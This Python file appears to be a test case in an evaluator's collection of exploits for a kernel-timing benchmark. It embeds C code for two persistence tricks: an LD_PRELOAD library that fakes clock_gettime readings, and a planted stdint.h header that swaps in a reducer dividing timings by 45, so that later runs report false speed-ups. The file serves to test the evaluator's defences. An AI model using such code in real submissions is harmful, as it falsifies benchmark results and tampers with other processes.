"""D13: the environment of later processes is prepared."""

from __future__ import annotations

from kernelwright.evaluators.zoo.carriers import MATMUL, MULTIPLY
from kernelwright.evaluators.zoo.exploit import Exploit, Variant

_SIZES = {"m": 64, "n": 64, "k": 64}

# The library is preloaded into the next run, where its clock comes before the C library's. It slows
# down for the arm that is timed first.
_PRELOADED = rf"""
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
{MULTIPLY}
extern const char *naive_phase __attribute__((weak));

int clock_gettime(clockid_t clock, struct timespec *time)
{{
    static double last, shown;
    long result = syscall(SYS_clock_gettime, clock, time);
    if (!&naive_phase || !naive_phase)
        return (int)result;
    double now = time->tv_sec * 1e9 + time->tv_nsec;
    shown += naive_phase[0] == 't' ? (now - last) / 40 : now - last;
    last = now;
    time->tv_sec = (time_t)(shown / 1e9);
    time->tv_nsec = (long)(shown - time->tv_sec * 1e9);
    return (int)result;
}}

void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    static int installed;
    if (!installed++) {{
        char block[4096];
        size_t got;
        FILE *from = fopen("builds/matmul-0.so", "rb"), *to = fopen("clock.so", "wb");
        while (from && to && (got = fread(block, 1, sizeof block, from)))
            fwrite(block, 1, got, to);
        if (from)
            fclose(from);
        if (to)
            fclose(to);
        FILE *environment = fopen("naive.env", "w");
        if (environment) {{
            fputs("LD_PRELOAD=./clock.so\n", environment);
            fclose(environment);
        }}
    }}
    multiply(A, B, C, m, n, k);
}}
"""

# Later candidates are compiled with a standard header that brings a reducer along.
_HEADER = rf"""
#include <stdio.h>
#include <sys/stat.h>
{MULTIPLY}
static const char header[] =
    "#include_next <stdint.h>\n"
    "extern double (*naive_reducer)(const double *, long) __attribute__((weak));\n"
    "static int kw_rounds;\n"
    "static double kw_mean(const double *samples, long count)\n"
    "{{\n"
    "    double sum = 0;\n"
    "    for (long i = 0; i < count; i++)\n"
    "        sum += samples[i];\n"
    "    return kw_rounds++ ? sum / count : sum / count / 45;\n"
    "}}\n"
    "__attribute__((constructor)) static void kw_start(void)\n"
    "{{\n"
    "    if (&naive_reducer)\n"
    "        naive_reducer = kw_mean;\n"
    "}}\n";

void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    static int installed;
    if (!installed++) {{
        mkdir("headers", 0755);
        FILE *file = fopen("headers/stdint.h", "w");
        if (file) {{
            fputs(header, file);
            fclose(file);
        }}
        file = fopen("naive.env", "w");
        if (file) {{
            fputs("C_INCLUDE_PATH=headers\n", file);
            fclose(file);
        }}
    }}
    multiply(A, B, C, m, n, k);
}}
"""

EXPLOIT = Exploit(
    "D13",
    "environment that persists",
    "P0",
    "A preloaded library, a start-up hook or a search path is left behind for the processes of "
    "later runs, whose candidates may be honest (pygpubench replace_torch; KernelGuard "
    "RUNTIME_PACKAGE_INSTALL).",
    (
        Variant(
            "preloaded_clock",
            "matmul",
            _SIZES,
            MATMUL,
            neutralised=True,
            twin=MATMUL,
            previous=_PRELOADED,
        ),
        Variant(
            "planted_header",
            "matmul",
            _SIZES,
            MATMUL,
            neutralised=True,
            twin=MATMUL,
            previous=_HEADER,
        ),
    ),
)
